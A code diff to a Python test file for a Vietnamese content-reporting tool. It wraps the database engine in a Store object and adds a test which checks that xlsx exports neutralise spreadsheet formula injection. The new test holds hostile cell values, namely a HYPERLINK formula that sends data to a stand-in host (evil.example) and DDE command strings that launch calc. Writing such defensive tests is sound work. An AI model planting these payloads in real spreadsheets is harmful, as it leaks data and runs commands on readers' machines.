@@ -18,6 +18,7 @@ from bot.reports.docx_report import ReportAgency, write_docx
 from bot.reports.kpis import compute_kpis, month_status, parse_period
 from bot.reports.tables import write_json, write_markdown, write_xlsx
 from content_queue.db import normalise_url, open_database
+from content_queue.store import Store
 from content_queue.tables import articles, deliveries, reach_samples
 
 NOW = datetime(2026, 8, 15, 3, 0, tzinfo=UTC)  # 10:00 in Hà Nội
@@ -168,7 +169,7 @@ def seeded(engine: sa.Engine) -> dict[str, int]:
 
 
 def test_year_kpis_match_hand_counts(engine: sa.Engine, seeded: dict[str, int]) -> None:
-    k = compute_kpis(engine, parse_period("2026"), now=NOW)
+    k = compute_kpis(Store(engine), parse_period("2026"), now=NOW)
     ids = seeded
     assert [(m.month, m.published, m.status) for m in k.months] == [
         (1, 2, "met"),
@@ -233,7 +234,7 @@ def test_year_kpis_match_hand_counts(engine: sa.Engine, seeded: dict[str, int]) 
 
 
 def test_quarter_excludes_other_months(engine: sa.Engine, seeded: dict[str, int]) -> None:
-    k = compute_kpis(engine, parse_period("2026-Q2"), now=NOW)
+    k = compute_kpis(Store(engine), parse_period("2026-Q2"), now=NOW)
     assert [(m.month, m.published, m.status) for m in k.months] == [
         (4, 0, "below"),
         (5, 2, "met"),
@@ -248,12 +249,12 @@ def test_quarter_excludes_other_months(engine: sa.Engine, seeded: dict[str, int]
 def test_month_status_counts_published_and_scheduled(
     engine: sa.Engine, seeded: dict[str, int]
 ) -> None:
-    aug = month_status(engine, 2026, 8)
+    aug = month_status(Store(engine), 2026, 8)
     assert (aug.published, aug.scheduled, aug.behind) == (1, 1, False)
     assert aug.scheduled_article_ids == [seeded["a12"]]
-    sep = month_status(engine, 2026, 9, monthly_minimum=2)
+    sep = month_status(Store(engine), 2026, 9, monthly_minimum=2)
     assert (sep.published, sep.scheduled, sep.behind) == (0, 1, True)
-    assert month_status(engine, 2026, 3, monthly_minimum=4).behind is True
+    assert month_status(Store(engine), 2026, 3, monthly_minimum=4).behind is True
 
 
 @pytest.mark.parametrize(
@@ -282,7 +283,7 @@ def test_parse_period_refuses_in_vietnamese(text: str) -> None:
 
 
 def test_docx_and_xlsx_reports(engine: sa.Engine, seeded: dict[str, int], tmp_path) -> None:
-    k = compute_kpis(engine, parse_period("2026"), now=NOW)
+    k = compute_kpis(Store(engine), parse_period("2026"), now=NOW)
     agency = ReportAgency(signer_name="Trần Thị Vân Thuỳ")
     path = write_docx(k, tmp_path / "bao-cao.docx", agency=agency)
     doc = Document(str(path))
@@ -357,3 +358,23 @@ def test_docx_and_xlsx_reports(engine: sa.Engine, seeded: dict[str, int], tmp_pa
     md = write_markdown(k)
     assert md.startswith("# Kết quả tuyên truyền cải cách hành chính năm 2026")
     assert "| 04/2026 | 0 | 2 | Chưa đạt |  |" in md
+
+
+def test_xlsx_cells_from_outside_are_text_never_formulas(engine: sa.Engine, tmp_path) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
+    with engine.begin() as conn:
+        s = Seeder(conn)
+        good = s.article("a")
+        conn.execute(articles.update().where(articles.c.id == good).values(title=hostile))
+        web = s.delivery(good, "website", sent_at=utc(2026, 1, 5, 2))
+        s.samples(web, "views", (utc(2026, 1, 6), 70))
+        bad = s.article("b", state="partial")
+        s.delivery(bad, "website", "failed", last_error="+cmd|' /C calc'!A0")
+        s.delivery(bad, "facebook", "failed", last_error="@SUM(1+1)*cmd|' /C calc'!A0")
+    k = compute_kpis(Store(engine), parse_period("2026"), now=NOW)
+    wb = load_workbook(write_xlsx(k, tmp_path / "bao-cao.xlsx"))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    assert "'" + hostile in values
+    assert "'+cmd|' /C calc'!A0" in values and "'@SUM(1+1)*cmd|' /C calc'!A0" in values
